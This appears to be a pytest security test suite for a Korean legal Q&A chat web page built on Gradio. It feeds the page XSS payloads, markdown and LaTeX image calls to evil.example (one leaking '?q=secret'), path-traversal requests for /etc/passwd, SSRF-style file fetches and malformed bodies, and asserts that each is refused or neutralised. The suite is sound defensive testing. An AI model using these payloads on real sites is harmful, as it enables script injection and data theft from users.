"""The page against those who send it what no browser would, and against what is in questions and answers."""

import asyncio
import contextlib
import json
import shutil
import socket
import threading
import time
from types import SimpleNamespace

import httpx
import pytest
import uvicorn

from civilqa.chat.web.guard import MAX_CONNECTIONS, MAX_WAITING, SECURITY_HEADERS
from civilqa.chat.web.server import make_app
from civilqa.dataset.records import Record, record_id, write_records
from civilqa.law.verdicts import look_up_citations

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ATTACKS = [
    "<script>window.pwned = 1; alert(1)</script>",
    '<img src=x onerror="window.pwned=1;alert(2)">',
    "<svg onload=alert(3)><iframe src='http://evil.example/f'></iframe>",
    "![x](http://evil.example/?q=secret)",
    "[누르세요](javascript:alert(4))",
    "[x]: http://evil.example/r\n\n![y][x]",
    "<a href='javascript:alert(5)'>가</a><table><tr><td onmouseover=alert(6)>나</td></tr></table>",
    "&lt;script&gt;alert(7)&lt;/script&gt; &#60;img src=x onerror=alert(8)&#62;",
    "$$\\href{javascript:alert(9)}{x}$$ \\(\\includegraphics{http://evil.example/l}\\)",
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(10)>]-->B; click A "javascript:alert(11)"\n```',
    "</div></div><style>body{background:url(http://evil.example/s)}</style><base href='http://evil.example/'>",
    "\x1b[31m\u202e\ud7ff {{ 7 * 7 }} ${7*7} <%= 7*7 %>",
]
EVIL = "\n\n".join(ATTACKS) + "\n\n민법 제750조<b onclick=alert(12)>(<i>불법행위</i>)</b>"


class Stream:
    """An answer that is there at once, or that does not end before it is told to."""

    def __init__(self, question, category, answer, endless=False):
        self.finished = False
        self.told = threading.Event()
        self.endless, self.answer = endless, answer
        self.result = {"question": question, "category": category, "answer": answer, "stopped": True, "tokens": 1}
        self.result |= {"citations": look_up_citations(answer), "model": "모델", "notice": "알림"}

    def __iter__(self):
        yield self.answer
        if self.endless:
            self.told.wait(60)
        self.finished = True

    def stop(self):
        self.told.set()
        self.finished = True


class Engine:
    """Answers with what it was made with, in the place of a model."""

    def __init__(self, answer="답변입니다.", categories=("전세사기",)):
        self.answer, self.categories = answer, list(categories)
        self.name, self.notice = "모델", "알림"
        self.params = SimpleNamespace(max_question_characters=2000)
        self.streams = []

    def load_base_beside(self):
        return self

    def passes_turns_on(self, multi_turn=None):
        return False

    def stream_answer(self, question, category="", *, history=()):
        self.streams.append(Stream(question, category, self.answer, endless=question.startswith("기다려")))
        return self.streams[-1]


@contextlib.contextmanager
def served(engine, host="127.0.0.1"):
    """Serve the page of an engine within this process, on the loopback whatever `host` says; yields its address."""
    from civilqa.chat.web.page import make_page

    listening = socket.create_server(("127.0.0.1", 0))
    app = make_app(make_page(engine, saves=host == "127.0.0.1"), host)
    config = uvicorn.Config(app, log_level="critical", limit_concurrency=MAX_CONNECTIONS, timeout_graceful_shutdown=1)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{listening.getsockname()[1]}"
    for stream in engine.streams:
        stream.stop()
    server.should_exit = True
    thread.join(timeout=20)
    assert not thread.is_alive()


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    folder = tmp_path_factory.mktemp("web")
    questions = [f"{attack} {number}번 질문입니다" for number, attack in enumerate(ATTACKS)]
    with contextlib.chdir(folder):
        for split in ("train", "test"):
            write_records(
                folder / "data/splits" / f"{split}.jsonl",
                [
                    Record(id=record_id(text), question=text, answer="답", category=EVIL[:50], difficulty="초급")
                    for text in questions
                ],
            )
        with served(Engine(EVIL, ["전세사기", *ATTACKS[:4]])) as address:
            yield address


def post(address, path="/gradio_api/queue/join", headers=None, fn_index=None, **changes):
    fn_index = event(address) if fn_index is None else fn_index
    body = {"data": ["질문", "공통", False, False, None], "fn_index": fn_index, "session_hash": "abc"} | changes
    return httpx.post(address + path, json=body, headers=headers or {}, timeout=60)


def event(address, name="ask"):
    config = httpx.get(f"{address}/config", timeout=60).json()
    return next(entry["id"] for entry in config["dependencies"] if entry["api_name"] == name)


# --- what is served --------------------------------------------------------------------------------------------------

CLOSED = [
    "/gradio_api/file=/etc/passwd", "/file=/etc/passwd", "/gradio_api/file/etc/passwd", "/gradio_api/upload",
    "/gradio_api/proxy=http://127.0.0.1:1/", "/gradio_api/component_server", "/gradio_api/stream/x",
    "/gradio_api/call/ask", "/gradio_api/api/ask", "/gradio_api/run/ask", "/gradio_api/monitoring", "/monitoring",
    "/gradio_api/vibe-code/", "/gradio_api/vibe-edit", "/gradio_api/process_recording", "/gradio_api/deep_link",
    "/openapi.json", "/docs", "/redoc", "/login", "/runs", "/dev/reload", "/svelte/x", "/profiling/summary",
    "/custom_component/1/client/component/x", "/queue/join", "/gradio_api//file=/etc/passwd", "/GRADIO_API/upload",
    "/assets/../gradio_api/upload", "/assets/..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/assets/..\\..\\etc\\passwd", "/gradio_api/heartbeat/../upload",
]  # fmt: skip


def test_what_the_page_does_not_need_is_closed(page):
    with httpx.Client(base_url=page) as client:
        asked = [(method, path) for path in CLOSED for method in ("GET", "POST", "PUT", "OPTIONS")]
        answers = {(method, path): client.request(method, page + path) for method, path in asked}
    assert [
        asked for asked, answer in answers.items() if (answer.status_code, answer.text) != (404, "없는 주소입니다.")
    ] == []


def test_no_file_outside_the_page_s_own_is_served(page):
    for path in ("/assets//etc/passwd", "/static//etc/passwd", "/assets/%2fetc/passwd"):
        answer = httpx.get(page + path)
        assert answer.status_code in (403, 404), path
        assert "root:" not in answer.text, path


def test_a_websocket_is_not_opened(page):
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    answer = httpx.get(f"{page}/gradio_api/queue/join", headers=upgrade | {"Sec-WebSocket-Key": "a" * 22 + "=="})
    assert answer.status_code >= 400


def test_every_answer_tells_the_browser_to_stay_here(page):
    for answer in (httpx.get(page), httpx.get(f"{page}/config"), httpx.get(f"{page}/docs"), post(page, fn_index=99)):
        for name, value in SECURITY_HEADERS.items():
            assert answer.headers[name] == value
    assert "frame-ancestors 'none'" in SECURITY_HEADERS["content-security-policy"]
    assert "http" not in SECURITY_HEADERS["content-security-policy"]
    assert "unsafe-eval" not in SECURITY_HEADERS["content-security-policy"]


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}],
    ids=lambda headers: str(headers),
)
def test_a_page_elsewhere_cannot_drive_this_one(page, headers):
    answer = httpx.post(f"{page}/gradio_api/queue/join", headers=headers)  # refused unread
    assert answer.status_code == 403
    assert "access-control-allow-origin" not in answer.headers
    own = {"Origin": page, "Sec-Fetch-Site": "same-origin"}
    assert post(page, headers=own).status_code == 200


@pytest.mark.parametrize(
    "body",
    [
        b"", b"{", b"[]", b"[" * 100_000, b'{"a":' * 40_000, b"\xff\xfe", b'{"session_hash": "a"}',
        json.dumps({"session_hash": "a", "fn_index": 99, "data": []}).encode(),
        json.dumps({"session_hash": "a", "fn_index": -1, "data": []}).encode(),
        json.dumps({"session_hash": "a" * 10_000, "fn_index": 0, "data": []}).encode(),
        json.dumps({"session_hash": None, "fn_index": 0, "data": []}).encode(),
        json.dumps({"session_hash": "a", "fn_index": 10**30, "data": []}).encode(),
        json.dumps({"session_hash": "a", "fn_index": 0, "data": {"a": 1}}).encode(),
    ],
    ids=lambda body: str(body[:30]),
)  # fmt: skip
def test_what_no_browser_sends_is_refused_before_gradio_sees_it(page, body):
    for path in ("/gradio_api/queue/join", "/gradio_api/run/predict", "/gradio_api/cancel"):
        answer = httpx.post(page + path, content=body, headers={"content-type": "application/json"})
        assert answer.status_code == 400
        assert answer.text == "이 화면이 보내는 요청이 아닙니다."


@pytest.mark.parametrize("where", ["/etc/hostname", "http://127.0.0.1:{port}/secret"])
def test_neither_a_file_nor_an_address_that_a_question_names_is_fetched(page, tmp_path, monkeypatch, where):
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(1)
        file = {"path": where.format(port=listening.getsockname()[1]), "meta": {"_type": "gradio.FileData"}}
        for data in ([file, "공통", False, False, None], [[file], "공통", False, False, None]):
            assert post(page, data=data).status_code == 400
        with pytest.raises(TimeoutError):
            listening.accept()


# --- how much --------------------------------------------------------------------------------------------------------


def test_who_sits_elsewhere_is_told_apart_and_cannot_save(page, monkeypatch):
    monkeypatch.setattr("civilqa.chat.web.guard.REQUESTS_A_MINUTE", 5)  # one more every 12 s
    with served(Engine(), host="0.0.0.0") as address:  # noqa: S104 - it listens on the loopback
        names = [entry["api_name"] for entry in httpx.get(f"{address}/config", timeout=60).json()["dependencies"]]
        elsewhere = {"X-Forwarded-For": "192.0.2.1"}  # as a proxy on this machine says it
        # Without a body, which is no event: what is refused unread may be answered with a reset in its place.
        answers = [httpx.post(f"{address}/gradio_api/queue/join", headers=elsewhere).status_code for _ in range(6)]
        another = {"X-Forwarded-For": "192.0.2.2"}
        others = httpx.post(f"{address}/gradio_api/queue/join", headers=another).status_code
    assert "save" not in names
    assert answers == [400] * 5 + [429]
    assert others == 400
    assert "save" in [entry["api_name"] for entry in httpx.get(f"{page}/config", timeout=60).json()["dependencies"]]


def test_a_body_that_never_comes_to_its_end_is_not_waited_for(page, monkeypatch):
    monkeypatch.setattr("civilqa.chat.web.guard.MAX_BODY_SECONDS", 0.5)
    host, port = page.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        head = f"POST /gradio_api/queue/join HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: 100\r\n\r\n{{"
        connection.sendall(head.encode())
        assert connection.recv(100).startswith(b"HTTP/1.1 408")


# --- what is shown ---------------------------------------------------------------------------------------------------


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt install chromium")
def test_nothing_in_questions_answers_or_examples_runs_or_is_fetched(page, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        tab = browser.new_page(viewport={"width": 1280, "height": 1600})
        tab.set_default_timeout(120_000)
        requests, dialogs = [], []
        tab.on("request", lambda request: requests.append(request.url))
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        tab.goto(page)
        tab.wait_for_selector("#question textarea")
        tab.locator("button.gallery-item").first.click()
        expect(tab.locator("#question textarea")).not_to_be_empty(timeout=60_000)
        tab.locator("#compare input").check()
        for number, question in enumerate([EVIL, *ATTACKS[:3]], start=1):
            tab.fill("#question textarea", question)
            tab.locator("#send").click()
            expect(tab.locator("#base .message.bot")).to_have_count(number, timeout=120_000)
            expect(tab.locator("#question textarea")).to_be_empty(timeout=120_000)
        inside = "#tuned {0}, #base {0}, #category {0}, .gallery {0}"
        for tag in ("script", "img", "a", "iframe", "base", "table .answer", "svg[onload]", "[onerror]", "[onclick]"):
            assert tab.locator(inside.format(tag)).count() == 0, tag
        shown = tab.locator("#tuned .message.bot").first.inner_text()
        for attack in (
            "<script>window.pwned = 1; alert(1)</script>",
            "![x](http://evil.example/?q=secret)",
            "&lt;script",
        ):
            assert attack in shown
        tab.locator("#save").click()
        expect(tab.locator("#status")).to_contain_text("저장했습니다", timeout=60_000)
        tab.screenshot(path=tmp_path / "page.png", full_page=True)
        assert tab.evaluate("window.pwned") is None
        styles = tab.locator("style").all_text_contents()  # gradio has some of its own
        assert [style for style in styles if "evil" in style] == []
        assert dialogs == []
        assert [url for url in requests if not url.startswith((page, "data:", "blob:"))] == []
        browser.close()


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: apt install chromium")
def test_the_policy_alone_keeps_a_browser_from_loading_anything_from_elsewhere(page):
    """Were something written into the page in spite of all, it could not leave."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        tab = browser.new_page()
        with socket.create_server(("127.0.0.1", 0)) as elsewhere:
            elsewhere.settimeout(2)
            tab.goto(page)
            tab.evaluate(
                """address => {
                    const tags = `<img src="${address}i"><iframe src="${address}f"></iframe>`;
                    document.body.insertAdjacentHTML("beforeend", tags);
                    return fetch(`${address}x`).catch(error => String(error));
                }""",
                f"http://127.0.0.1:{elsewhere.getsockname()[1]}/",
            )
            with contextlib.suppress(TimeoutError):  # a browser may open a connection before it looks at the policy
                while True:
                    connection, _ = elsewhere.accept()
                    connection.settimeout(2)
                    with connection, contextlib.suppress(TimeoutError):
                        assert connection.recv(100) == b""
        browser.close()


# --- many ------------------------------------------------------------------------------------------------------------


def test_of_a_hundred_who_ask_at_once_those_without_room_are_told_so_in_korean():
    async def ask(client, number, join):
        session = f"many{number}"
        body = {"data": ["기다려 주세요", "공통", False, False, None], "fn_index": join, "session_hash": session}
        (await client.post("/gradio_api/queue/join", json=body)).raise_for_status()
        async with client.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as response:
            async for line in response.aiter_lines():
                if "기다리는 질문이 많습니다" in line:
                    return "busy"
                if "process_completed" in line:
                    return "answered"

    async def ask_all(address, join):
        limits = httpx.Limits(max_connections=300, max_keepalive_connections=0)  # none may be closed while it waits
        async with httpx.AsyncClient(base_url=address, timeout=60, limits=limits) as client:
            asked = [asyncio.create_task(ask(client, number, join)) for number in range(100)]
            deadline = time.monotonic() + 50  # those that wait give up after 60 s
            while sum(task.done() for task in asked) < 100 - MAX_WAITING and time.monotonic() < deadline:
                await asyncio.sleep(0.2)
            await asyncio.sleep(1)
            done = [task.result() for task in asked if task.done()]
            for task in asked:
                task.cancel()
            return done

    with served(Engine()) as address:
        assert asyncio.run(ask_all(address, event(address))) == ["busy"] * (100 - MAX_WAITING)
